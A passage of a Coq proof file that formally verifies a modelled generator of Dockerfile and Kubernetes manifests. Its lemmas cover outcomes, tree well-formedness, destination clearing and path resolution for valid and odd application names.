Lemma prepared_dockerfile : prepared !! (P ++ ["Dockerfile"]) ≠ Some Dir.
Proof.
  unfold prepared, K. rewrite prepared_lookup by by apply prefix_app_r.
  rewrite decide_False; [done|]. intros [_ [E|E]].
  - by apply snoc_ne in E.
  - by apply snoc_ne_snoc in E.
Qed.

(** Every run of [generate_files] on a tree: it fails before rendering
    and changes nothing, or it clears and creates the destination and
    writes the first [k] files of the bundle, one at least; it succeeds
    with all four and otherwise fails with the exception of the step
    that failed first. *)
Lemma generate_files_outcomes (r : result unit) (st' : state) :
  generate_files app_name port node_port envs output_dir st = (r, st') →
  (∃ e, r = Raise e ∧ fs st' = fs st)
  ∨ ∃ k, 1 ≤ k ≤ 4
      ∧ fs st' = written (cwd st) (take k bundle) prepared
      ∧ ((k = 4 ∧ r = Ok tt)
         ∨ (k < 4 ∧ ∃ e, r = Raise e
             ∧ (Template.env_names envs = Raise e
                ∨ ∃ p c, bundle !! k = Some (p, c)
                    ∧ open_w p st' = (Raise e, st')))).
Proof.
  rewrite generate_files_phases, prepare_run by done.
  cbn [cwd fs logged]. fold P K.
  destruct (fs_get (fs st) P) as [[|c]|] eqn:HP.
  2:{ intros [= <- <-]. left. eauto. }
  all: destruct (List.find _ _) as [q|];
    [intros [= <- <-]; left; eauto|].
  all: intros Hr; right;
    apply render_outcomes in Hr as (k & Hk & -> & Hcase);
    [|apply prepared_destination|apply prepared_dockerfile].
  all: exists k; split; [done|]; split; [done|].
  all: destruct Hcase as [?|(e & -> & [[-> He]|(p & c & Hp & Hopen)])];
    [by left|right; split; [lia|eauto]|right].
  all: split; [apply lookup_lt_Some in Hp; simpl in Hp; lia|].
  all: exists e; split; [done|]; right; by exists p, c.
Qed.

(** An existing destination directory is always cleared and created
    again. *)
Lemma prepare_existing :
  fs_get (fs st) P = Some Dir →
  prepare output_dir (logged "generate_files" st)
  = (Ok tt, set_fs prepared (logged "generate_files" st)).
Proof.
  intros HP. rewrite prepare_run by done. cbn [cwd fs logged]. fold P K.
  rewrite HP.
  unfold K. by rewrite cleared_no_file.
Qed.

(** With an existing destination directory the run reaches the
    rendering phase. *)
Lemma generate_files_existing (r : result unit) (st' : state) :
  fs_get (fs st) P = Some Dir →
  generate_files app_name port node_port envs output_dir st = (r, st') →
  ∃ k, 1 ≤ k ≤ 4
    ∧ fs st' = written (cwd st) (take k bundle) prepared
    ∧ (r = Ok tt ↔ k = 4).
Proof.
  intros HP. rewrite generate_files_phases, prepare_existing by done.
  intros Hr. apply render_outcomes in Hr as (k & Hk & -> & Hcase);
    [|apply prepared_destination|apply prepared_dockerfile].
  exists k. split; [done|]. split; [done|].
  destruct Hcase as [[-> ->]|(e & -> & [[-> He]|(p & c & Hp & Hopen)])];
    [done|split; [done|lia]|].
  split; [done|]. intros ->. done.
Qed.

(** What is at or below the destination after the writes does not
    depend on what was there before. *)
Lemma written_below (ws : list (string * string)) (q : path) :
  P `prefix_of` q →
  written (cwd st) ws prepared !! q
  = written (cwd st) ws (make_dirs K ∅) !! q.
Proof.
  intros Hq. induction ws as [|[p c] ws IH] using rev_ind.
  - unfold written, prepared. simpl.
    rewrite !lookup_make_dirs, lookup_remove_tree, lookup_empty.
    by rewrite (decide_True (P:=P `prefix_of` q)).
  - by rewrite !written_snoc, !lookup_insert, IH.
Qed.

End Outcomes.

(** ** Requests *)

Section Generate.
Import Os.

(** A request with a one-component name and named variables succeeds
    on a free destination: the destination is cleared and created, and
    the four files of the bundle are written. *)
Lemma generate_ok (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  let P := cwd st ++ ["generated"; app_name] in
  let bundle := artifacts app_name port node_port envs (destination app_name) in
  path_component app_name = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  generate (request app_name port node_port envs) st
  = (Ok (Success ("Fichiers générés dans " +:+ destination app_name)),
     {| cwd := cwd st;
        fs := written (cwd st) bundle
                (make_dirs (P ++ ["k8s"]) (remove_tree P (fs st)));
        calls := "generate_files" :: "generate" :: calls st |}).
Proof.
  intros P bundle Hname Hnames Hfree. unfold generate, request.
  rewrite run_bind. cbv beta iota delta [log_call].
  cbn [rq_app_name rq_port rq_node_port rq_envs default].
  unfold try_except. rewrite run_bind.
  fold (destination app_name). fold (logged "generate" st). unfold id.
  by rewrite (generate_files_ok app_name port node_port envs names
                (logged "generate" st) Hname Hnames Hfree).
Qed.

End Generate.

Section ValidRequests.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (st : state).
Hypothesis Hvalid : valid_descriptor app_name port node_port envs = true.
Hypothesis Hfree : destination_free st app_name.

Let dest : string := destination app_name.
Let run := generate (request app_name port node_port envs) st.

Lemma valid_name_component : path_component app_name = true.
Proof.
  apply safe_identifier_component.
  by pose proof Hvalid as [? _]%valid_descriptor_inv.
Qed.

Lemma valid_name_single_line : Text.single_line app_name = true.
Proof.
  apply safe_identifier_single_line.
  by pose proof Hvalid as [? _]%valid_descriptor_inv.
Qed.

Lemma valid_ports_single_line :
  Text.single_line (py_str port) = true ∧ Text.single_line (py_str node_port) = true.
Proof.
  pose proof Hvalid as (_ & [z Hz] & [z' Hz'] & _)%valid_descriptor_inv.
  rewrite Hz, Hz'. split; apply py_str_int_single_line.
Qed.

(** A valid descriptor on a free destination: the request succeeds,
    the four files hold the texts of their templates, no pipeline
    definition is written, and [generate_files] is the only function
    called. *)
Lemma generate_valid :
  run.1 = Ok (Success ("Fichiers générés dans " +:+ dest))
  ∧ read_file run.2 (dockerfile_path dest)
    = Some (Template.dockerfile (declared_names envs))
  ∧ read_file run.2 (deployment_path dest app_name)
    = Some (Template.deployment app_name port)
  ∧ read_file run.2 (service_path dest app_name)
    = Some (Template.service app_name port node_port)
  ∧ read_file run.2 (hpa_path dest app_name) = Some (Template.hpa app_name)
  ∧ pipeline_of run.2 dest = None
  ∧ calls run.2 = "generate_files" :: "generate" :: calls st.
Proof.
  pose proof valid_name_component as Hname.
  pose proof Hvalid as (_ & _ & _ & Hnames & _)%valid_descriptor_inv.
  unfold run. rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hfree).
  split; [done|]. cbn [fst snd].
  pose proof (bundle_read app_name port node_port envs st Hname (make_dirs
    ((cwd st ++ ["generated"; app_name]) ++ ["k8s"])
    (remove_tree (cwd st ++ ["generated"; app_name]) (fs st)))) as Hread.
  assert (dockerfile_text envs = Template.dockerfile (declared_names envs))
    as Edf by (unfold dockerfile_text; by rewrite Hnames).
  unfold artifacts in Hread.
  apply Forall_cons in Hread as [H1 Hread].
  apply Forall_cons in Hread as [H2 Hread].
  apply Forall_cons in Hread as [H3 Hread].
  apply Forall_cons in Hread as [H4 _].
  split; [rewrite <- Edf; exact H1|]. split; [exact H2|]. split; [exact H3|].
  split; [exact H4|]. split; [|done].
  unfold pipeline_of, read_file, jenkinsfile_path. cbn [cwd fs].
  unfold dest. rewrite resolve_join, resolve_destination by done.
  rewrite fs_get_stored by apply snoc_stored.
  rewrite written_frame, prepared_lookup; [| by apply prefix_app_r |].
  - rewrite decide_False; [done|]. intros [_ [E|E]].
    + by apply snoc_ne in E.
    + by apply snoc_ne_snoc in E.
  - apply Forall_forall. intros w Hw.
    assert (resolve (cwd st) w.1
            ∈ map (λ w : string * string, resolve (cwd st) w.1)
                  (artifacts app_name port node_port envs (destination app_name)))
      as Hin by (apply list_elem_of_fmap; by exists w).
    rewrite (bundle_paths _ _ _ _ _ Hname) in Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin]);
      [..|by apply elem_of_nil in Hin]; intros E.
    + by apply snoc_ne_snoc in E.
    + rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
    + rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
    + rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
Qed.

End ValidRequests.

Section Responses.
Import Os.

(** The route turns the outcome of [generate_files] into its answer
    and changes nothing more. *)
Lemma generate_response (app_name : string) (port node_port : jsval)
    (envs : list env) (st : state) :
  let inner := generate_files app_name port node_port envs
                 (destination app_name) (logged "generate" st) in
  generate (request app_name port node_port envs) st
  = (match inner.1 with
     | Ok _ => Ok (Success ("Fichiers générés dans " +:+ destination app_name))
     | Raise e => Ok (Failure e)
     end, inner.2).
Proof.
  cbv zeta. unfold generate, request.
  rewrite run_bind. cbv beta iota delta [log_call].
  cbn [rq_app_name rq_port rq_node_port rq_envs default].
  unfold try_except, id. rewrite run_bind.
  fold (destination app_name). fold (logged "generate" st).
  by destruct (generate_files _ _ _ _ _ _) as [[[]|e] st'].
Qed.

End Responses.

(** ** Lemmas for the further properties *)

(** *** The file system stays a tree *)

Section Trees.
Import Os.

Lemma parent_prefix (q : path) : parent q `prefix_of` q.
Proof.
  unfold parent. destruct q as [|x q _] using rev_ind; [done|].
  rewrite removelast_last. by apply prefix_app_r.
Qed.

Lemma wf_remove_tree (P : path) (m : fsmap) : fs_wf m → fs_wf (remove_tree P m).
Proof.
  intros Hwf q e Hq. rewrite lookup_remove_tree in Hq.
  case_decide as HP; [done|]. destruct (Hwf q e Hq) as [Hne Hpar].
  split; [done|]. destruct (parent q) as [|c r] eqn:E; [done|].
  rewrite fs_get_stored in * by done. rewrite lookup_remove_tree.
  rewrite decide_False; [done|]. intros H. apply HP.
  etrans; [exact H|]. rewrite <- E. apply parent_prefix.
Qed.

Lemma parent_of_prefix (q K : path) :
  q `prefix_of` K → parent q = [] ∨ (parent q ≠ [] ∧ parent q `prefix_of` K).
Proof.
  intros H. destruct (parent q) as [|c r] eqn:E; [by left|]. right.
  split; [done|]. rewrite <- E. etrans; [apply parent_prefix|done].
Qed.

Lemma wf_make_dirs (K : path) (m : fsmap) : fs_wf m → fs_wf (make_dirs K m).
Proof.
  intros Hwf q e Hq.
  assert (∀ p, fs_get m p = Some Dir → fs_get (make_dirs K m) p = Some Dir) as Hup.
  { intros p Hp. destruct p as [|c r]; [done|]. rewrite fs_get_stored in * by done.
    rewrite lookup_make_dirs. by case_decide. }
  rewrite lookup_make_dirs in Hq. case_decide as Hc.
  - destruct Hc as [Hne Hpre]. split; [done|].
    destruct (parent_of_prefix q K Hpre) as [->|[Hn Hp]]; [done|].
    rewrite fs_get_stored, lookup_make_dirs by done. by rewrite decide_True.
  - destruct (Hwf q e Hq) as [Hne Hpar]. split; [done|]. by apply Hup.
Qed.

Lemma parent_ne (q : path) : q ≠ [] → parent q ≠ q.
Proof.
  intros Hq E. destruct q as [|x q _] using rev_ind; [done|].
  unfold parent in E. rewrite removelast_last in E. symmetry in E.
  by apply snoc_ne in E.
Qed.

Lemma wf_insert_file (P : path) (c : string) (m : fsmap) :
  fs_wf m → P ≠ [] → fs_get m (parent P) = Some Dir → m !! P ≠ Some Dir →
  fs_wf (<[P := File c]> m).
Proof.
  intros Hwf HP Hpar Hnd q e Hq.
  assert (∀ p, fs_get m p = Some Dir → fs_get (<[P := File c]> m) p = Some Dir) as Hup.
  { intros p Hp. destruct p as [|x r]; [done|]. rewrite fs_get_stored in * by done.
    rewrite lookup_insert. case_decide as E; [|done]. by rewrite E in Hnd. }
  rewrite lookup_insert in Hq. case_decide as E.
  - subst q. split; [done|]. by apply Hup.
  - destruct (Hwf q e Hq) as [Hne Hq']. split; [done|]. by apply Hup.
Qed.

Lemma wf_alter_append (h : path) (s : string) (m : fsmap) :
  fs_wf m → fs_wf (alter (append_text s) h m).
Proof.
  intros Hwf q e Hq.
  assert (∀ p, fs_get m p = Some Dir → fs_get (alter (append_text s) h m) p = Some Dir) as Hup.
  { intros p Hp. destruct p as [|x r]; [done|]. rewrite fs_get_stored in * by done.
    rewrite lookup_alter. case_decide as E; [|done]. subst h. by rewrite Hp. }
  rewrite lookup_alter in Hq. case_decide as E.
  - subst q. destruct (m !! h) as [e'|] eqn:Eh; [|done].
    destruct (Hwf h e' Eh) as [Hne Hpar]. split; [done|]. by apply Hup.
  - destruct (Hwf q e Hq) as [Hne Hpar]. split; [done|]. by apply Hup.
Qed.

Lemma keeps_tree_bind {A B} (c : M A) (k : A → M B) :
  keeps_tree c → (∀ a, keeps_tree (k a)) → keeps_tree (c ≫= k).
Proof.
  intros Hc Hk st Hwf. rewrite run_bind. specialize (Hc st Hwf).
  destruct (c st) as [[a|e] st1]; simpl in *; [|done].
  by apply Hk.
Qed.

Lemma keeps_tree_ret {A} (a : A) : keeps_tree (ret a).
Proof. by intros st. Qed.

Lemma keeps_tree_raise {A} (e : exn) : keeps_tree (@raise A e).
Proof. by intros st. Qed.

Lemma keeps_tree_lift {A} (r : result A) : keeps_tree (lift r).
Proof. by intros st. Qed.

Lemma keeps_tree_global {A} (b : option A) (n : string) : keeps_tree (global b n).
Proof. destruct b; by intros st. Qed.

Lemma keeps_tree_log_call (f : string) : keeps_tree (log_call f).
Proof. by intros st. Qed.

Lemma keeps_tree_path_exists (p : string) : keeps_tree (path_exists p).
Proof. by intros st. Qed.

Lemma keeps_tree_rmtree (p : string) : keeps_tree (rmtree p).
Proof.
  intros st Hwf. unfold rmtree. destruct (fs_get _ _) as [[|?]|]; [|done..].
  by apply wf_remove_tree.
Qed.

Lemma keeps_tree_makedirs (p : string) : keeps_tree (makedirs p).
Proof.
  intros st Hwf. unfold makedirs. destruct (List.find _ _); [done|].
  by apply wf_make_dirs.
Qed.

Lemma keeps_tree_open_w (p : string) : keeps_tree (open_w p).
Proof.
  intros st Hwf. unfold open_w. destruct (resolve _ _) as [|c r] eqn:E; [done|].
  destruct (fs_get _ _) as [[|?]|] eqn:Hpar; [|done..].
  destruct (fs st !! _) as [[|?]|] eqn:HP; [done|..];
    cbn [snd fs set_fs]; apply wf_insert_file; done || congruence.
Qed.

Lemma keeps_tree_fwrite (h : path) (s : string) : keeps_tree (fwrite h s).
Proof. intros st Hwf. by apply wf_alter_append. Qed.

Lemma keeps_tree_if {A} (b : bool) (c1 c2 : M A) :
  keeps_tree c1 → keeps_tree c2 → keeps_tree (if b then c1 else c2).
Proof. by destruct b. Qed.

Lemma keeps_tree_for_each {A} (xs : list A) (body : A → M unit) :
  (∀ x, keeps_tree (body x)) → keeps_tree (for_each xs body).
Proof.
  intros H. induction xs as [|x r IH]; [apply keeps_tree_ret|].
  cbn [for_each]. by apply keeps_tree_bind.
Qed.

Lemma keeps_tree_try_except {A} (c : M A) (h : exn → M A) :
  keeps_tree c → (∀ e, keeps_tree (h e)) → keeps_tree (try_except c h).
Proof.
  intros Hc Hh st Hwf. unfold try_except. specialize (Hc st Hwf).
  destruct (c st) as [[a|e] st1]; simpl in *; [done|]. by apply Hh.
Qed.

End Trees.

Create HintDb trees discriminated.
#[export] Hint Resolve keeps_tree_ret keeps_tree_raise keeps_tree_lift
  keeps_tree_global keeps_tree_log_call keeps_tree_path_exists keeps_tree_rmtree
  keeps_tree_makedirs keeps_tree_open_w keeps_tree_fwrite
  keeps_tree_if keeps_tree_for_each keeps_tree_try_except : trees.
#[export] Hint Extern 1 (keeps_tree (_ ≫= _)) =>
  apply keeps_tree_bind; [|intros ?] : trees.

Section TreeInvariant.

Lemma generate_files_keeps_tree (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) :
  keeps_tree (generate_files app_name port node_port envs output_dir).
Proof. unfold generate_files. auto 30 with trees. Qed.

Lemma generate_keeps_tree (data : request_json) : keeps_tree (generate data).
Proof.
  unfold generate. apply keeps_tree_bind; [apply keeps_tree_log_call|intros _].
  destruct (rq_app_name data); [|apply keeps_tree_raise].
  apply keeps_tree_try_except; [|intros e; apply keeps_tree_ret].
  apply keeps_tree_bind; [apply generate_files_keeps_tree|intros _; apply keeps_tree_ret].
Qed.

Lemma write_secret_yaml_keeps_tree (g : globals) (app_name : string)
    (var_names : list string) (output_path : string) :
  keeps_tree (write_secret_yaml g app_name var_names output_path).
Proof. unfold write_secret_yaml. auto 60 with trees. Qed.

End TreeInvariant.

(** *** Clearing and creating a destination *)

Section Prepared.
Import Os.

(** With no regular file in the way, the destination is cleared and
    created. *)
Lemma prepare_clear (output_dir : string) (st : state) :
  let P := resolve (cwd st) output_dir in
  fs_wf (fs st) → way_clear st output_dir →
  prepare output_dir st
  = (Ok tt, set_fs (make_dirs (P ++ ["k8s"]) (remove_tree P (fs st))) st).
Proof.
  intros P Hwf Hway. unfold way_clear in Hway. fold P in Hway.
  rewrite Forall_forall in Hway.
  rewrite prepare_run by done. fold P.
  assert (List.find (is_file (remove_tree P (fs st))) (prefixes (P ++ ["k8s"]))
          = None) as ->.
  { apply find_none_iff. intros q Hq. pose proof Hq as [Hne Hpre]%elem_of_prefixes.
    unfold is_file. rewrite fs_get_stored, lookup_remove_tree by done.
    case_decide as HPq; [done|].
    apply prefix_snoc_inv in Hpre as [Hpre| ->];
      [|destruct HPq; by apply prefix_app_r].
    specialize (Hway q). unfold is_file in Hway.
    rewrite fs_get_stored in Hway by done. apply Hway.
    by apply elem_of_prefixes. }
  destruct (fs_get (fs st) P) as [[|c]|] eqn:HP; [done| |done].
  destruct (decide (P = [])) as [E|Hne]; [by rewrite E in HP|].
  specialize (Hway P). unfold is_file in Hway. rewrite HP in Hway.
  discriminate Hway. by apply elem_of_prefixes.
Qed.

Lemma destination_way_clear (app_name : string) (st : state) :
  path_component app_name = true → destination_free st app_name →
  way_clear st (destination app_name).
Proof.
  intros Hname (Hwf & Hcwd & Hgen & Hdest). unfold way_clear.
  rewrite resolve_destination by done. apply Forall_forall.
  intros q [Hq Hpre]%elem_of_prefixes.
  change ["generated"; app_name] with (["generated"] ++ [app_name]) in Hpre.
  rewrite app_assoc in Hpre.
  apply prefix_snoc_inv in Hpre as [Hpre| ->]; [|by rewrite <- app_assoc].
  apply prefix_snoc_inv in Hpre as [Hpre| ->]; [|done].
  unfold is_file. by rewrite (wf_prefix_dir _ (cwd st) q).
Qed.

End Prepared.

Section Frame.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (st : state).
Hypothesis Hname : path_component app_name = true.

Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].
Let bundle := artifacts app_name port node_port envs (destination app_name).

(** The files of the bundle are all below the destination. *)
Lemma bundle_below :
  Forall (λ w, P `prefix_of` resolve (cwd st) w.1 ∧ resolve (cwd st) w.1 ≠ P) bundle.
Proof.
  pose proof (bundle_paths app_name port node_port envs st Hname) as H.
  apply Forall_forall. intros w Hw.
  assert (resolve (cwd st) w.1 ∈ map (λ w : string * string, resolve (cwd st) w.1) bundle)
    as Hin by (apply list_elem_of_fmap; by exists w).
  unfold bundle in Hin. rewrite H in Hin. fold P K in Hin.
  repeat (apply elem_of_cons in Hin as [->|Hin]); [..|by apply elem_of_nil in Hin].
  - split; [by apply prefix_app_r|apply snoc_ne].
  - unfold K. rewrite <- app_assoc. split; [by apply prefix_app_r|].
    intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
  - unfold K. rewrite <- app_assoc. split; [by apply prefix_app_r|].
    intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
  - unfold K. rewrite <- app_assoc. split; [by apply prefix_app_r|].
    intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
Qed.

(** What [k] files of the bundle and the new directories leave at a
    path that is neither below nor above the destination. *)
Lemma written_outside (k : nat) (m : fsmap) (q : path) :
  ¬ P `prefix_of` q → ¬ q `prefix_of` P →
  written (cwd st) (take k bundle) (make_dirs K (remove_tree P m)) !! q = m !! q.
Proof.
  intros Hbelow Habove.
  rewrite written_frame.
  - rewrite lookup_make_dirs, lookup_remove_tree.
    rewrite (decide_False (P:=P `prefix_of` q)) by done.
    rewrite decide_False; [done|]. intros [_ Hpre]. unfold K in Hpre.
    apply prefix_snoc_inv in Hpre as [Hpre| ->]; [done|].
    apply Hbelow. by apply prefix_app_r.
  - apply Forall_take. eapply Forall_impl; [apply bundle_below|].
    intros w [Hw _] E. rewrite E in Hw. done.
Qed.

End Frame.

Section FurtherRuns.
Import Os.

(** The state in which rendering starts on a free destination. *)
Lemma generate_files_free (app_name : string) (port node_port : jsval)
    (envs : list env) (st : state) :
  let P := cwd st ++ ["generated"; app_name] in
  path_component app_name = true → destination_free st app_name →
  generate_files app_name port node_port envs (destination app_name) st
  = render app_name port node_port envs (destination app_name)
      (set_fs (make_dirs (P ++ ["k8s"]) (remove_tree P (fs st)))
         (logged "generate_files" st)).
Proof.
  intros P Hname Hfree. rewrite generate_files_phases.
  pose proof (prepare_clear (destination app_name) (logged "generate_files" st)) as H.
  cbn [cwd fs logged] in H. rewrite resolve_destination in H by done.
  rewrite H; [done|apply Hfree|by apply destination_way_clear].
Qed.

Lemma env_names_unnamed (envs : list env) :
  Exists (λ e : env, e !! "name" = None) envs →
  Template.env_names envs = Raise (KeyError "name").
Proof.
  induction envs as [|e r IH]; [by intros ?%Exists_nil|].
  intros [He|Hr]%Exists_cons; cbn [Template.env_names]; unfold Template.subscript.
  - by rewrite He.
  - destruct (e !! "name"); [|done]. by rewrite IH.
Qed.

Lemma render_unnamed (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) (st : state) :
  let D := resolve (cwd st) output_dir ++ ["Dockerfile"] in
  Exists (λ e : env, e !! "name" = None) envs →
  fs_get (fs st) (resolve (cwd st) output_dir) = Some Dir →
  fs st !! D ≠ Some Dir →
  render app_name port node_port envs output_dir st
  = (Raise (KeyError "name"), set_fs (<[D := File EmptyString]> (fs st)) st).
Proof.
  intros D Hex HP HD. unfold render.
  assert (resolve (cwd st) (path_join output_dir "Dockerfile") = D) as ED
    by by apply resolve_join.
  rewrite run_bind, open_w_ok; rewrite ?ED; [|apply snoc_stored| |done].
  2:{ unfold parent, D. by rewrite removelast_last. }
  cbv beta iota. rewrite run_bind. unfold lift.
  by rewrite env_names_unnamed.
Qed.

End FurtherRuns.

Section Again.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (names : list string) (st : state).
Hypothesis Hname : path_component app_name = true.
Hypothesis Hnames : Template.env_names envs = Ok names.
Hypothesis Hfree : destination_free st app_name.

Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].
Let bundle := artifacts app_name port node_port envs (destination app_name).
Let once := generate (request app_name port node_port envs) st.

(** After a successful request the destination is free again. *)
Lemma destination_free_again : destination_free once.2 app_name.
Proof.
  pose proof Hfree as (Hwf & Hcwd & _).
  assert (∀ q, q ≠ [] → q `prefix_of` P → fs once.2 !! q = Some Dir) as Hdir.
  { intros q Hq Hpre. unfold once.
    rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hfree). cbn [snd fs].
    fold P K bundle. rewrite written_frame.
    - rewrite lookup_make_dirs, decide_True; [done|]. split; [done|].
      unfold K. by apply prefix_app_r.
    - eapply Forall_impl; [apply (bundle_below app_name port node_port envs st Hname)|].
      intros w [Hw Hne] E. fold P in Hw, Hne. rewrite E in Hw, Hne.
      apply Hne. by apply (anti_symm prefix). }
  split; [by apply generate_keeps_tree|].
  assert (cwd once.2 = cwd st) as Ecwd.
  { unfold once. by rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hfree). }
  rewrite Ecwd. unfold is_file. split; [|split].
  - destruct (decide (cwd st = [])) as [E|E]; [by rewrite E|].
    rewrite fs_get_stored by done.
    apply Hdir; [done|]. unfold P. by apply prefix_app_r.
  - rewrite fs_get_stored by apply snoc_stored. rewrite Hdir; [done|apply snoc_stored|].
    unfold P. apply prefix_app, prefix_cons, prefix_nil.
  - fold P. rewrite fs_get_stored by (unfold P; by destruct (cwd st)).
    rewrite Hdir; [done|unfold P; by destruct (cwd st)|done].
Qed.

End Again.

(** *** Names that are not one path component *)

Section Nested.
Import Text Os.
Local Arguments Ascii.eqb : simpl never.

Lemma ends_with_char_app (c : ascii) (x a : string) :
  a ≠ EmptyString → ends_with_char c (x +:+ a) = ends_with_char c a.
Proof.
  intros Ha. induction x as [|y x IH]; [done|].
  rewrite sapp_cons. simpl. rewrite IH.
  destruct (x +:+ a) eqn:E; [|done].
  destruct x; [by rewrite sapp_nil_l in E|by rewrite sapp_cons in E].
Qed.

Lemma free_of_not_last (c : ascii) (a : string) :
  free_of c a = true → ends_with_char c a = false.
Proof.
  induction a as [|x a IH]; [done|]. simpl.
  intros [Hx Ha]%andb_true_iff. apply negb_true_iff in Hx.
  destruct a; [done|]. by apply IH.
Qed.

Lemma component_nonempty (a : string) : path_component a = true → a ≠ EmptyString.
Proof.
  unfold path_component. intros [H _]%andb_true_iff.
  apply negb_true_iff, bool_decide_eq_false in H. tauto.
Qed.

Lemma component_no_slash_end (x a : string) :
  path_component a = true → ends_with_char slash (x +:+ a) = false.
Proof.
  intros Ha. rewrite ends_with_char_app by by apply component_nonempty.
  apply free_of_not_last. by apply andb_true_iff in Ha as [_ ?].
Qed.

(** Joining a name of two components is joining them one after the
    other. *)
Lemma path_join_nested (x a b : string) :
  path_component a = true → path_component b = true →
  path_join x (a +:+ "/" +:+ b) = path_join (path_join x a) b.
Proof.
  intros Ha Hb. pose proof (component_nonempty a Ha) as Hne.
  unfold path_join at 1 3.
  rewrite starts_with_app, (component_not_abs a Ha) by done.
  destruct (bool_decide (x = EmptyString) || ends_with_char slash x) eqn:E.
  - unfold path_join. rewrite (component_not_abs b Hb).
    rewrite component_no_slash_end by done.
    rewrite bool_decide_eq_false_2.
    + simpl. by rewrite !sapp_assoc.
    + destruct x; [by rewrite sapp_nil_l|by rewrite sapp_cons].
  - unfold path_join. rewrite (component_not_abs b Hb).
    rewrite <- (sapp_assoc x "/" a), component_no_slash_end by done.
    rewrite bool_decide_eq_false_2.
    + simpl. by rewrite !sapp_assoc.
    + apply orb_false_iff in E as [E _]. apply bool_decide_eq_false in E.
      destruct x; [done|by rewrite !sapp_cons].
Qed.

Lemma resolve_join_nested (wd : path) (x a b : string) :
  path_component a = true → path_component b = true →
  resolve wd (path_join x (a +:+ "/" +:+ b)) = resolve wd x ++ [a; b].
Proof.
  intros Ha Hb. rewrite path_join_nested, !resolve_join by done.
  by rewrite <- app_assoc.
Qed.

End Nested.

Section NestedRun.
Import Os.

Lemma open_w_missing_dir (p : string) (st : state) :
  let Q := resolve (cwd st) p in
  Q ≠ [] → fs_get (fs st) (parent Q) = None →
  open_w p st = (Raise (FileNotFoundError p), st).
Proof.
  intros Q HQ Hpar. unfold open_w. fold Q.
  destruct Q as [|c r] eqn:E; [done|]. by rewrite Hpar.
Qed.

End NestedRun.

Section AnyDestination.
Import Os.

Lemma render_succeeds (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (output_dir : string) (st : state) :
  let bundle := artifacts app_name port node_port envs output_dir in
  Template.env_names envs = Ok names →
  fs_get (fs st) (resolve (cwd st) output_dir) = Some Dir →
  bundle_creatable (cwd st) (fs st) bundle →
  render app_name port node_port envs output_dir st
  = (Ok tt, set_fs (written (cwd st) bundle (fs st)) st).
Proof.
  intros bundle Hnames HP Hall.
  assert (fs st !! (resolve (cwd st) output_dir ++ ["Dockerfile"]) ≠ Some Dir) as HD.
  { apply Forall_inv in Hall as (_ & _ & H & _). cbn [fst] in H.
    unfold dockerfile_path in H. by rewrite resolve_join in H. }
  destruct (render _ _ _ _ _ _) as [r st'] eqn:E.
  apply render_outcomes in E as (k & Hk & -> & Hcase); [|done..].
  fold bundle in Hcase |- *.
  destruct Hcase as [[-> ->]|(e & -> & [[_ He]|(p & c & Hp & Hopen)])].
  - by rewrite firstn_all2 by (simpl; lia).
  - congruence.
  - exfalso. unfold bundle_creatable in Hall. rewrite Forall_forall in Hall.
    destruct (Hall (p, c)) as (HQ & Hpar & Hnd & Hoff);
      [by eapply list_elem_of_lookup_2|]. cbn [fst] in *.
    rewrite open_w_ok in Hopen; cbn [cwd fs set_fs]; [done|done| |].
    + destruct (parent (resolve (cwd st) p)) as [|x q] eqn:Eq; [done|].
      rewrite fs_get_stored in * by done.
      rewrite written_frame; [done|]. by apply Forall_take.
    + by apply written_not_dir.
Qed.

(** A call whose destination has a clear way and whose files can all be
    created succeeds and writes the whole bundle. *)
Lemma generate_files_succeeds (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (output_dir : string) (st : state) :
  let P := resolve (cwd st) output_dir in
  let bundle := artifacts app_name port node_port envs output_dir in
  let prepared := make_dirs (P ++ ["k8s"]) (remove_tree P (fs st)) in
  Template.env_names envs = Ok names →
  fs_wf (fs st) → way_clear st output_dir →
  bundle_creatable (cwd st) prepared bundle →
  generate_files app_name port node_port envs output_dir st
  = (Ok tt, set_fs (written (cwd st) bundle prepared) (logged "generate_files" st)).
Proof.
  intros P bundle prepared Hnames Hwf Hway Hall.
  rewrite generate_files_phases.
  pose proof (prepare_clear output_dir (logged "generate_files" st)) as Hprep.
  cbn [cwd fs logged] in Hprep. rewrite Hprep by done. clear Hprep.
  fold P prepared.
  pose proof (render_succeeds app_name port node_port envs names output_dir
                (set_fs prepared (logged "generate_files" st))) as H.
  cbn [cwd fs set_fs logged] in H. rewrite H; [done|done| |done].
  apply prepared_destination.
Qed.

End AnyDestination.

Section OddNames.
Import Os.

Lemma resolve_generated (wd : path) : resolve wd "generated/" = wd ++ ["generated"].
Proof. reflexivity. Qed.

Lemma resolve_absolute (wd : path) (d x : string) :
  path_component x = true → resolve wd (path_join d ("/" +:+ x)) = [x].
Proof.
  intros Hx. unfold path_join.
  change (Text.starts_with "/" ("/" +:+ x)) with true. cbv iota.
  unfold resolve. change (Text.starts_with "/" ("/" +:+ x)) with true. cbv iota.
  change (Text.split_on Text.slash ("/" +:+ x))
    with (EmptyString :: Text.split_on Text.slash x).
  apply andb_true_iff in Hx as Hx'. destruct Hx' as [_ Hfree].
  rewrite (split_on_free _ _ Hfree). cbn [fold_left].
  change (norm_step [] EmptyString) with (@nil string).
  by rewrite norm_step_component.
Qed.

(** In a prepared destination [P], files below [P] or its [k8s]
